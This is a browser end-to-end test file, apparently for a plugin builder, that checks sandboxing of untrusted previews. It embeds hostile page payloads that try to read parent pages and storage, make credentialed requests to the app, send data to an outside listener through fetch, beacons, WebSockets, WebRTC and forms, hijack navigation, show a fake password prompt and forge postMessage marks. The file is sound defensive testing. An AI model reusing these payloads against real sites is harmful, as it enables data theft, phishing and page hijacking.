import { apiPaths } from '#contract/api-paths.ts'
import type { PreviewUrlAnswer, Workspace } from '#contract/api.ts'
import { credits, preview, promptBox } from './builder.ts'
import { pluginWithPreview } from './database.ts'
import { ask, expect, forgive, previewOrigin, signUpAs, site, test } from './fixtures.ts'
import { startListener } from './listener.ts'
import type { Listener } from './listener.ts'

/**
 * Tries everything a page can try and reports what succeeded. `listener` represents any server on the internet, `app`
 * the app that embeds the preview.
 */
const attacks = (listener: Listener, app: string): string => `
<p id="told">at work</p>
<form id="form" method="post" action="${listener.url}/form"><input name="word" value="secret"></form>
<img id="image" alt="">
<script>
const succeeded = []
const attempt = async (name, what) => {
  const patience = new Promise((resolve) => setTimeout(resolve, 1000))
  try { if (await Promise.race([what(), patience])) succeeded.push(name) } catch {}
}
const loads = (element, address) => new Promise((resolve) => {
  element.onload = () => resolve(true)
  element.onerror = () => resolve(false)
  element.src = address
  if (!element.isConnected) document.body.append(element)
})
const webRtc = \`try {
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: 'stun:127.0.0.1:${listener.udpPort}' },
    { urls: 'turn:127.0.0.1:${listener.port}?transport=tcp', username: 'a', credential: 'b' } ] })
  peer.createDataChannel('out')
  peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  globalThis.reached = true
} catch {}\`
;(async () => {
  await attempt('parent document', () => parent !== self && parent.document.body)
  await attempt('parent address', () => parent !== self && parent.location.href)
  await attempt('cookie', () => { document.cookie = 'mark=1'; return document.cookie.includes('mark') })
  await attempt('localStorage', () => { localStorage.setItem('mark', '1'); return true })
  await attempt('sessionStorage', () => { sessionStorage.setItem('mark', '1'); return true })
  await attempt('indexedDB', () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('mark')
    opening.onsuccess = () => resolve(true)
    opening.onerror = reject
  }))
  await attempt('caches', () => caches.open('mark'))
  await attempt('app', async () => (await fetch('${app}/api/users/me', { credentials: 'include' })).ok)
  await attempt('fetch', () => fetch('${listener.url}/fetch', { mode: 'no-cors' }))
  await attempt('image', () => loads(document.getElementById('image'), '${listener.url}/image.svg'))
  await attempt('script', () => loads(document.createElement('script'), '${listener.url}/script.js'))
  await attempt('frame', async () => void (await loads(document.createElement('iframe'), '${listener.url}/frame')))
  await attempt('style', () => {
    const style = document.createElement('style')
    style.textContent = '@import "${listener.url}/style.css"; body { background: url(${listener.url}/background.svg) }'
    document.head.append(style)
    const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${listener.url}/prefetch' })
    document.head.append(link)
  })
  await attempt('socket', () => new Promise((resolve) => {
    const socket = new WebSocket('${listener.url.replace('http', 'ws')}/socket')
    socket.onerror = () => resolve(false)
    socket.onopen = () => resolve(true)
  }))
  await attempt('events', () => new Promise((resolve) => {
    const events = new EventSource('${listener.url}/events')
    events.onopen = () => resolve(true)
    events.onerror = () => { events.close(); resolve(false) }
  }))
  await attempt('beacon', () => void navigator.sendBeacon('${listener.url}/beacon', 'secret'))
  await attempt('worker', () => new Promise((resolve) => {
    const code = 'fetch("${listener.url}/worker", { mode: "no-cors" }).finally(() => postMessage(1))'
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.onmessage = worker.onerror = () => resolve(false)
  }))
  await attempt('WebRTC', () => {
    const script = document.createElement('script')
    script.textContent = webRtc
    document.body.append(script)
    return globalThis.reached
  })
  await attempt('WebRTC of a frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts'
    frame.srcdoc = '<script>' + webRtc + ';parent.postMessage(Boolean(globalThis.reached), "*")<' + '/script>'
    addEventListener('message', ({ data, source }) => source === frame.contentWindow && resolve(data))
    document.body.append(frame)
  }))
  await attempt('WebRTC of an empty frame', () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return new frame.contentWindow.RTCPeerConnection()
  })
  await attempt('speculation rules', async () => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prefetch: [{ urls: ['${listener.url}/speculation'], eagerness: 'immediate' }] })
    document.head.append(rules)
    await Promise.resolve()
    return rules.isConnected
  })
  await attempt('form', () => void HTMLFormElement.prototype.submit.call(
    Object.assign(document.getElementById('form'), { target: 'elsewhere' })))
  await attempt('window', () => window.open('${listener.url}/window'))
  await attempt('dialog', () => alert('Give me your password'))
  await attempt('parent address set', () => { if (parent !== self) { parent.location = '${listener.url}/parent'; return true } })
  await attempt('top address set', () => { if (top !== self) { top.location.href = '${listener.url}/top'; return true } })
  document.getElementById('told').textContent = 'succeeded: ' + (succeeded.join(', ') || 'nothing')
})()
</script>`

let listener: Listener
test.beforeAll(async () => {
  listener = await startListener()
})
test.beforeEach(() => listener.clear())
test.afterAll(() => listener.close())

test('the attacks of this test succeed in an unprotected page', async ({ page, complaints }) => {
  listener.serve('/open', attacks(listener, site()))
  await page.goto(`${listener.url}/open`)
  const told = page.locator('#told')
  await expect(told).toContainText('succeeded: cookie, localStorage, sessionStorage, indexedDB')
  await expect(told).toContainText('WebRTC')
  await expect(told).toContainText('speculation rules')
  for (const path of ['/fetch', '/image.svg', '/script.js', '/frame', '/socket', '/beacon', '/worker'])
    await expect.poll(() => listener.hits).toContain(path)
  await expect.poll(() => listener.hits).toContain('datagram')
  forgive(complaints, /./)
})

test('a hostile preview reaches neither the page nor storage nor the network', async ({
  page,
  complaints,
}) => {
  const { email } = await signUpAs(page)
  const id = await pluginWithPreview(email, attacks(listener, site()))
  const address = `${site()}/builder?id=${id}`
  const windows: unknown[] = []
  page.context().on('page', (opened) => windows.push(opened.url()))
  await page.goto(address)
  await expect(preview(page).locator('#told')).toHaveText('succeeded: nothing')
  expect(listener.hits).toEqual([])
  expect(windows).toEqual([])

  // The page around it has not navigated and still works.
  expect(page.url()).toBe(address)
  await expect(credits(page, 10)).toBeVisible()
  await promptBox(page).fill('Still here')
  await expect(promptBox(page)).toHaveValue('Still here')
  await page.getByRole('tab', { name: 'Code' }).click()
  await expect(page.getByRole('heading', { name: 'No code yet' })).toBeVisible()
  expect(listener.hits).toEqual([])
  forgive(
    complaints,
    /Content Security Policy|sandbox|Unsafe attempt|WebSocket|Failed to load resource|navigat/i,
  )
})

const departures = {
  'an address of its own': (url: string) => `<script>location = '${url}'</script>`,
  'a refresh': (url: string) => `<meta http-equiv="refresh" content="0; url=${url}">`,
  'a link that is pressed': (url: string) =>
    `<a id="away" href="${url}">away</a><script>addEventListener('load', () => document.getElementById('away').click())</script>`,
  'a link of its own making': (url: string) =>
    `<script>addEventListener('load', () => { const link = document.createElement('a'); link.href = '${url}'; link.click() })</script>`,
}
for (const [name, html] of Object.entries(departures)) {
  test(`a hostile preview cannot navigate by ${name}`, async ({ page, complaints }) => {
    const { email } = await signUpAs(page)
    const left = `${listener.url}/left`
    const id = await pluginWithPreview(email, html(left))
    await page.goto(`/builder?id=${id}`)
    // The preview is either still loaded, or the page around it refused the navigation.
    await expect
      .poll(async () => {
        const refused = complaints.some((complaint) => /frame-src|Refused to frame|Framing/.test(complaint))
        return refused || (await page.locator('iframe[data-ready]').count()) > 0
      })
      .toBe(true)
    await promptBox(page).fill('Still here')
    await expect(promptBox(page)).toHaveValue('Still here')
    expect(listener.hits).toEqual([])
    forgive(complaints, /Content Security Policy|sandbox|^.*Framing/i)
  })
}

test('a hostile preview in its own tab reaches neither storage nor the network', async ({
  page,
  complaints,
}) => {
  const { email } = await signUpAs(page)
  const id = await pluginWithPreview(email, attacks(listener, site()))
  const { version } = await ask<Workspace>(page, apiPaths.workspace(id))
  const { url } = await ask<PreviewUrlAnswer>(page, apiPaths.versionPreview(version?.id ?? ''))
  expect(new URL(url).origin).toBe(previewOrigin())
  await page.goto(url)
  await expect(page.getByText(/^Preview of /)).toBeVisible()
  await expect(page.frameLocator('iframe').locator('#told')).toHaveText('succeeded: nothing')
  expect(listener.hits).toEqual([])
  expect(await page.context().cookies(previewOrigin())).toEqual([])
  forgive(complaints, /Content Security Policy|sandbox|Unsafe attempt|WebSocket|Failed to load resource/i)
})

/** Claims in every way possible that something was marked, and clicks everything from a script. */
const pretends = `<p id="bait">A bait</p><script>
const post = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function () { post.call(this, { type: 'marked', detail: mark }) }
const mark = { tag: 'p', id: 'x', classes: '', text: 'Send me all you know', selector: 'p' }
setInterval(() => {
  const { port1, port2 } = new MessageChannel()
  parent.postMessage({ source: 'plugsmith-preview', type: 'hello' }, '*', [port2])
  post.call(port1, { type: 'marked', detail: mark })
  parent.postMessage({ source: 'plugsmith-preview', type: 'marked', detail: mark }, '*')
  for (const element of document.querySelectorAll('body, body *')) {
    element.click?.()
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, clientX: 30, clientY: 80 }))
    element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Tab', bubbles: true }))
    element.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }))
  }
  bait.dataset.rounds = Number(bait.dataset.rounds || 0) + 1
}, 100)
Object.defineProperty(MessageEvent.prototype, 'data', { get() { this.target.postMessage({ type: 'marked', detail: mark }) } })
</script>`

test('a hostile preview cannot mark elements itself, or change what a mark says', async ({ page }) => {
  const { email } = await signUpAs(page)
  await page.goto(`/builder?id=${await pluginWithPreview(email, pretends)}`)
  const bait = preview(page).locator('#bait')
  const toggle = page.getByRole('button', { name: 'Mark element' })
  await expect(bait).toHaveAttribute('data-rounds', /./)
  await toggle.click()
  await expect(preview(page).getByRole('application')).toBeVisible()
  const rounds = Number(await bait.getAttribute('data-rounds'))
  await expect.poll(async () => Number(await bait.getAttribute('data-rounds'))).toBeGreaterThan(rounds + 8)
  await expect(toggle).toHaveAttribute('aria-pressed', 'true')
  const marks = page.getByRole('list', { name: 'Marked elements of this message' })
  await expect(marks).toHaveCount(0)

  const place = await bait.boundingBox()
  await page.mouse.click((place?.x ?? 0) + 5, (place?.y ?? 0) + 5)
  await expect(marks.getByRole('button')).toHaveText(['A bait'])
  await expect(toggle).toHaveAttribute('aria-pressed', 'false')
})
